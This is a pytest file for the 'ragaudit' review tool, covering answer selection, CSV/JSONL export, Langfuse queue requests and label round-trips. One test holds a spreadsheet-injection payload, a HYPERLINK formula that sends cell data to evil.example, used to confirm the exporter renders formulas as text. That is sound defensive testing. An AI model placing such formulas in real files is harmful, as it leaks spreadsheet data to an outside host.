"""The review queue: which answers ``ragaudit review`` selects and why, the CSV/JSONL files and the Langfuse
annotation queue it sends them to, and the labels read back as ``ragaudit calibrate`` reads them.

Audit logs are written by the real Auditor (a scripted full-audit judge, `tests.support.review_logs`);
Langfuse runs against a loopback recorder checked against its API schema, restated below.
"""

from __future__ import annotations

import base64
import csv
import json
from collections import Counter
from pathlib import Path
from typing import Any

import pytest

from ragaudit.cli import main
from ragaudit.errors import ConfigurationError, RagAuditError
from ragaudit.evaluation.calibration import read_labels
from ragaudit.evaluation.review import BANDS, REASONS, select
from ragaudit.evaluation.review_destinations import (
    CSV_COLUMNS,
    labels_from_file,
    to_langfuse_queue,
    write_csv,
    write_jsonl,
    write_labels,
)
from tests.support.http_recorder import HttpRecorder
from tests.support.review_logs import Verdict, good_turns, turn, write_review_log

TRACE = "ab" * 16
ANSWER_2 = "Returns are accepted within 30 days. Shipping is free."


@pytest.fixture
def audit_log(tmp_path: Path) -> Path:
    """Five turns each flagged for one reason (two for two), and 20 turns nothing flags."""
    turns = [
        turn("t-flag", "flagged", ANSWER_2, trace_id=TRACE),                       # S2 unsupported, faith high
        turn("t-cite", "cited wrong", "Shipping takes 3 to 5 days [1].", cites=1),  # cites [1], supported by [2]
        turn("t-low", "low", "Returns are accepted within 30 days."),
        turn("t-down", "thumbs down", "Returns are accepted within 30 days."),
        turn("t-allsup", "all supported", "Returns are accepted within 30 days."),  # faith low, all supported
    ]
    verdicts: dict[str, Verdict] = {
        "flagged": (0.8, 0.9, 0.9, [("supported", (1,)), ("unsupported", ())]),
        "cited wrong": (0.9, 0.9, 0.9, [("supported", (2,))]),
        "low": (0.2, 0.9, 0.9, []),
        "thumbs down": (0.9, 0.9, 0.9, [("supported", (1,))]),
        "all supported": (0.3, 0.9, 0.9, [("supported", (1,))]),
    }
    ok, ok_verdicts = good_turns(20, start=0.3)  # bands: 0.25-0.5 (low: selected), 0.5-0.75, 0.75-1
    return write_review_log(tmp_path / "audit.jsonl", [*turns, *ok], {**verdicts, **ok_verdicts})


def by_id(items: list[Any]) -> dict[str, Any]:
    return {item.id: item for item in items}


def test_each_reason_selects_its_turn_and_says_why(audit_log: Path) -> None:
    items = by_id(select(audit_log, low={"faithfulness": 0.5}, feedback={"t-down": "thumbs_down", "ok-19": True}))
    assert items["t-flag"].reasons == ("flagged_sentence", "disagreement")
    assert "S2 unsupported" in items["t-flag"].detail and "faithfulness 0.80 yet 1 sentence" in items["t-flag"].detail
    assert items["t-cite"].reasons == ("failed_citation",)
    assert "cites [1]" in items["t-cite"].detail
    assert items["t-low"].reasons == ("low_score",) and "faithfulness 0.20 < 0.5" in items["t-low"].detail
    assert items["t-down"].reasons == ("thumbs_down",)
    assert items["t-allsup"].reasons == ("disagreement", "low_score")
    assert "every sentence supported" in items["t-allsup"].detail
    assert "ok-19" not in items  # thumbs-up is not a reason
    for item in items.values():  # reasons in the declared order, strongest first
        assert list(item.reasons) == sorted(item.reasons, key=REASONS.index)


def test_an_item_carries_the_turn_evidence_verdicts_scores_and_trace_link(audit_log: Path) -> None:
    item = by_id(select(audit_log, trace_url="http://jaeger:16686/trace/{trace_id}"))["t-flag"]
    assert item.question == "flagged" and item.answer == ANSWER_2
    assert [(d["rank"], d["id"], d["source"]) for d in item.evidence] == [(1, "t-flag-policy", "policy.md"),
                                                                        (2, "t-flag-shipping", "shipping.md")]
    assert item.evidence[0]["content"] == "Returns are accepted within 30 days of delivery."
    assert [(s["index"], s["verdict"]) for s in item.sentences] == [(1, "supported"), (2, "unsupported")]
    assert dict(item.scores) == {"faithfulness": 0.8, "context_relevance": 0.9, "answer_relevance": 0.9}
    assert item.judge == "scripted-audit" and item.judge_reason == "scripted verdict for flagged"
    assert item.trace_url == f"http://jaeger:16686/trace/{TRACE}" and item.timestamp
    json.dumps(item.to_dict())  # JSON-ready
    no_trace = by_id(select(audit_log, trace_url="http://jaeger:16686/trace/{trace_id}"))["t-low"]
    assert no_trace.trace_url is None  # no trace id: no link to nowhere


def test_flagged_items_come_first_most_reasons_then_lowest_score(audit_log: Path) -> None:
    items = select(audit_log, feedback={"t-down": 0})
    keys = [(-len(i.reasons), min(v for v in i.scores.values() if v is not None)) for i in items]
    assert keys == sorted(keys) and len(items[0].reasons) == 2
    assert [i.id for i in items if len(i.reasons) == 2][-1] == "t-flag"  # two reasons, the highest score
    assert select(audit_log, limit=2)[:2] == items[:2] and len(select(audit_log, limit=2)) == 2


def test_the_sample_is_seeded_and_stratified_by_score_band(audit_log: Path) -> None:
    first = select(audit_log, low=0.25, sample=6, seed=3)
    again = select(audit_log, low=0.25, sample=6, seed=3)
    other = select(audit_log, low=0.25, sample=6, seed=4)
    sampled = [i for i in first if i.reasons == ("sample",)]
    assert [i.id for i in sampled] == [i.id for i in again if i.reasons == ("sample",)]
    assert [i.id for i in sampled] != [i.id for i in other if i.reasons == ("sample",)]
    assert len(sampled) == 6 and len({i.id for i in sampled}) == 6
    bands = Counter(i.stratum for i in sampled)
    assert set(bands) <= set(BANDS) and len(bands) == 3  # every band with turns is represented
    flagged_ids = {i.id for i in first if i.reasons != ("sample",)}
    assert not flagged_ids & {i.id for i in sampled}  # the sample is drawn from the rest only
    assert len([i for i in select(audit_log, sample=1000) if i.reasons == ("sample",)]) < 25  # all there is


def test_two_judges_that_disagree_on_a_turn_are_a_disagreement(tmp_path: Path) -> None:
    turns = [turn("t-1", "q1", "Returns are accepted within 30 days."),
             turn("t-2", "q2", "Returns are accepted within 30 days.")]
    first = write_review_log(tmp_path / "a.jsonl", turns, {"q1": (0.9, 0.9, 0.9, []), "q2": (0.9, 0.9, 0.9, [])})
    second = write_review_log(tmp_path / "b.jsonl", turns, {"q1": (0.3, 0.9, 0.9, []), "q2": (0.8, 0.9, 0.9, [])},
                              judge_name="other-judge")
    items = by_id(select([first, second], low=0.1))
    assert set(items) == {"t-1"} and items["t-1"].reasons == ("disagreement",)
    assert "faithfulness 0.90 and 0.30 from two judgements" in items["t-1"].detail
    assert items["t-1"].judge == "other-judge"  # the last judgement is the item's
    assert set(by_id(select([first, second], low=0.1, disagree=0.05))) == {"t-1", "t-2"}


def test_feedback_file_uses_the_auditors_thumbs_down_rule(audit_log: Path, tmp_path: Path) -> None:
    feedback = tmp_path / "feedback.jsonl"
    feedback.write_text('{"turn_id": "ok-10", "value": "down"}\n{"id": "ok-11", "feedback": 1}\n'
                        '{"turn_id": "ok-12", "score": 0.2}\n{"turn_id": "ok-13", "value": false}\n')
    items = by_id(select(audit_log, low=0.0, feedback=feedback))
    assert {k for k, v in items.items() if v.reasons == ("thumbs_down",)} == {"ok-10", "ok-12", "ok-13"}
    feedback.write_text('{"turn_id": "ok-10"}\n')
    with pytest.raises(ConfigurationError, match="line 1: no feedback value"):
        select(audit_log, feedback=feedback)


@pytest.mark.parametrize(("kwargs", "message"), [
    ({"low": 1.5}, "low"), ({"low": {"faithfulnes": 0.5}}, "unknown score 'faithfulnes'"),
    ({"sample": -1}, "sample"), ({"trace_url": "http://jaeger/trace/"}, "{trace_id}"),
    ({"disagree": float("nan")}, "disagree"), ({"limit": -2}, "limit"),
])
def test_bad_options_are_named(audit_log: Path, kwargs: dict[str, Any], message: str) -> None:
    with pytest.raises(ConfigurationError, match=message.replace("{", r"\{").replace("}", r"\}")):
        select(audit_log, **kwargs)


def test_a_bad_audit_line_is_named_as_report_names_it(tmp_path: Path) -> None:
    log = tmp_path / "bad.jsonl"
    log.write_text('{"turn_id": "t", "faithfulness": "high"}\n')
    with pytest.raises(RagAuditError, match="line 1: 'faithfulness' is a string; expected a number"):
        select(log)


def test_csv_opens_as_a_table_and_its_labels_come_back_for_calibrate(audit_log: Path, tmp_path: Path) -> None:
    items = select(audit_log, feedback={"t-down": False}, trace_url="http://jaeger:16686/trace/{trace_id}")
    path = tmp_path / "review.csv"
    assert write_csv(items, path) == len(items)
    assert path.read_bytes().startswith(b"\xef\xbb\xbf")  # UTF-8 BOM: Excel reads it as UTF-8
    with open(path, encoding="utf-8-sig", newline="") as f:
        rows = list(csv.DictReader(f))
    assert tuple(rows[0]) == CSV_COLUMNS and len(rows) == len(items)
    flag = next(r for r in rows if r["id"] == "t-flag")
    assert flag["reasons"] == "flagged_sentence,disagreement" and flag["faithfulness"] == "0.8"
    assert "S2 unsupported: Shipping is free." in flag["verdicts"]
    assert "[1] t-flag-policy (policy.md): Returns are accepted within 30 days of delivery." in flag["evidence"]
    assert flag["trace_url"] == f"http://jaeger:16686/trace/{TRACE}"
    # a person labels three rows (pass/fail words and a score), leaves the others empty
    filled = {"t-flag": ("fail", "", "1"), "t-cite": ("0", "pass", ""), "t-low": ("0.25", "", "")}
    for row in rows:
        for name, value in zip(("label_faithfulness", "label_context_relevance", "label_answer_relevance"),
                               filled.get(row["id"], ("", "", ""))):
            row[name] = value
    with open(path, "w", encoding="utf-8-sig", newline="") as f:
        writer = csv.DictWriter(f, fieldnames=CSV_COLUMNS)
        writer.writeheader()
        writer.writerows(rows)
    labels_path = tmp_path / "labels.jsonl"
    assert main(["review", "--labels", str(labels_path), "--from", str(path)]) == 0
    assert read_labels(labels_path) == {  # calibrate's own reader
        "t-flag": {"faithfulness": 0.0, "answer_relevance": 1.0},
        "t-cite": {"faithfulness": 0.0, "context_relevance": 1.0},
        "t-low": {"faithfulness": 0.25}}
    assert main(["calibrate", str(labels_path), str(audit_log), "--format", "json"]) == 0


def test_csv_cells_never_run_as_spreadsheet_formulas(tmp_path: Path) -> None:
    hostile = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    log = write_review_log(tmp_path / "a.jsonl", [turn("t-x", "x", hostile)], {"x": (0.1, 0.1, 0.1, [])})
    write_csv(select(log), tmp_path / "r.csv")
    with open(tmp_path / "r.csv", encoding="utf-8-sig", newline="") as f:
        row = next(csv.DictReader(f))
    assert row["answer"] == "'" + hostile  # shown as text; the label columns stay empty for a person


def test_jsonl_queue_and_its_labels_come_back(audit_log: Path, tmp_path: Path) -> None:
    path = tmp_path / "review.jsonl"
    items = select(audit_log)
    assert write_jsonl(items, path) == len(items) > 5
    lines = [json.loads(line) for line in path.read_text().splitlines()]
    assert lines[0]["labels"] == {"faithfulness": None, "context_relevance": None, "answer_relevance": None}
    lines[0]["labels"]["faithfulness"] = True
    path.write_text("".join(json.dumps(line) + "\n" for line in lines))
    labels = labels_from_file(path)
    assert labels == [{"id": lines[0]["id"], "faithfulness": True}]
    assert write_labels(labels, tmp_path / "labels.jsonl") == 1
    assert read_labels(tmp_path / "labels.jsonl") == {lines[0]["id"]: {"faithfulness": 1.0}}


def test_a_label_calibrate_would_refuse_is_named_at_export(tmp_path: Path) -> None:
    with pytest.raises(ConfigurationError, match="faithfulness"):
        write_labels([{"id": "t-1", "faithfulness": "maybe"}], tmp_path / "labels.jsonl")


# Langfuse's public API for annotation queue items, restated from langfuse v4.16.0 (62751446):
# web/src/features/public-api/types/annotation-queues.ts (CreateAnnotationQueueItemBody, a strict zod object)
# and packages/shared AnnotationQueueObjectType / AnnotationQueueStatus.
LANGFUSE_QUEUE_ITEM_KEYS = {"objectId": str, "objectType": str, "status": str}
LANGFUSE_OBJECT_TYPES = {"TRACE", "OBSERVATION", "SESSION"}
LANGFUSE_STATUSES = {"PENDING", "COMPLETED"}


def check_langfuse_queue_item(request: dict[str, Any], queue_id: str) -> None:
    assert request["method"] == "POST"
    assert request["path"] == f"/api/public/annotation-queues/{queue_id}/items"
    assert request["headers"]["authorization"] == "Basic " + base64.b64encode(b"pk-lf:sk-lf").decode()
    assert request["headers"]["content-type"] == "application/json"
    body = request["body"]
    assert set(body) <= set(LANGFUSE_QUEUE_ITEM_KEYS)  # strict: any other key is a 400
    assert {"objectId", "objectType"} <= set(body)
    assert all(isinstance(body[k], LANGFUSE_QUEUE_ITEM_KEYS[k]) for k in body)
    assert body["objectType"] in LANGFUSE_OBJECT_TYPES and body.get("status", "PENDING") in LANGFUSE_STATUSES


def test_langfuse_annotation_queue_gets_each_trace(audit_log: Path) -> None:
    items = select(audit_log)
    with HttpRecorder() as rec:
        counts = to_langfuse_queue(items, "queue-1", host=rec.url, public_key="pk-lf", secret_key="sk-lf")
        requests = list(rec.requests)
    with_trace = [i for i in items if i.trace_id]
    assert counts == {"sent": len(with_trace), "skipped": len(items) - len(with_trace)} and with_trace
    assert [r["body"]["objectId"] for r in requests] == [i.trace_id for i in with_trace]
    for request in requests:
        check_langfuse_queue_item(request, "queue-1")
        assert request["body"]["objectType"] == "TRACE"


def test_langfuse_errors_are_said_with_the_server_and_no_key(audit_log: Path) -> None:
    with HttpRecorder() as rec:
        rec.status = 404
        rec.error_body = b'{"message": "Annotation queue not found"}'
        with pytest.raises(RagAuditError, match=r"HTTP 404 .*Annotation queue not found") as caught:
            to_langfuse_queue(select(audit_log), "nope", host=rec.url, public_key="pk-lf", secret_key="sk-lf")
    assert "sk-lf" not in str(caught.value)
    with pytest.raises(ConfigurationError, match="LANGFUSE_PUBLIC_KEY"):
        to_langfuse_queue([], "q", host="http://127.0.0.1:9", public_key="", secret_key="")


def test_cli_selects_prints_and_sends(audit_log: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str],
                                      monkeypatch: pytest.MonkeyPatch) -> None:
    feedback = tmp_path / "fb.jsonl"
    feedback.write_text('{"turn_id": "t-down", "value": "down"}\n')
    monkeypatch.setenv("LANGFUSE_PUBLIC_KEY", "pk-lf")
    monkeypatch.setenv("LANGFUSE_SECRET_KEY", "sk-lf")
    with HttpRecorder() as rec:
        code = main(["review", str(audit_log), "--low-faithfulness", "0.5", "--low", "0.1", "--feedback",
                     str(feedback), "--sample", "3", "--seed", "1", "--trace-url",
                     "http://jaeger:16686/trace/{trace_id}", "--csv", str(tmp_path / "r.csv"), "--jsonl",
                     str(tmp_path / "r.jsonl"), "--langfuse-queue", "q-7", "--langfuse-host", rec.url])
        requests = list(rec.requests)
    out, err = capsys.readouterr()
    assert code == 0, err
    expected = select(audit_log, low={"faithfulness": 0.5, "context_relevance": 0.1, "answer_relevance": 0.1},
                      feedback=feedback, sample=3, seed=1)
    assert out.startswith(f"{len(expected)} turns to review: ") and "thumbs_down 1, sample 3" in out
    assert "t-flag  [flagged_sentence, disagreement]" in out and f"http://jaeger:16686/trace/{TRACE}" in out
    assert len((tmp_path / "r.jsonl").read_text().splitlines()) == len(expected)
    assert "wrote " + str(tmp_path / "r.csv") in err and "added" in err and "Langfuse annotation queue 'q-7'" in err
    for request in requests:
        check_langfuse_queue_item(request, "q-7")


@pytest.mark.parametrize(("argv", "message"), [
    (["review"], "name at least one audit log"),
    (["review", "--labels", "l.jsonl"], "exactly one source"),
    (["review", "x.jsonl", "--labels", "l.jsonl", "--from", "r.csv"], "takes no audit log"),
    (["review", "x.jsonl", "--from", "r.csv"], "--from is read with --labels"),
])
def test_cli_misuse_is_one_line_and_exit_2(argv: list[str], message: str, capsys: pytest.CaptureFixture[str]) -> None:
    assert main(argv) == 2
    assert message in capsys.readouterr().err


def test_cli_says_when_nothing_is_labelled_yet(audit_log: Path, tmp_path: Path,
                                               capsys: pytest.CaptureFixture[str]) -> None:
    write_csv(select(audit_log), tmp_path / "r.csv")
    assert main(["review", "--labels", str(tmp_path / "l.jsonl"), "--from", str(tmp_path / "r.csv")]) == 2
    assert "no labelled item" in capsys.readouterr().err
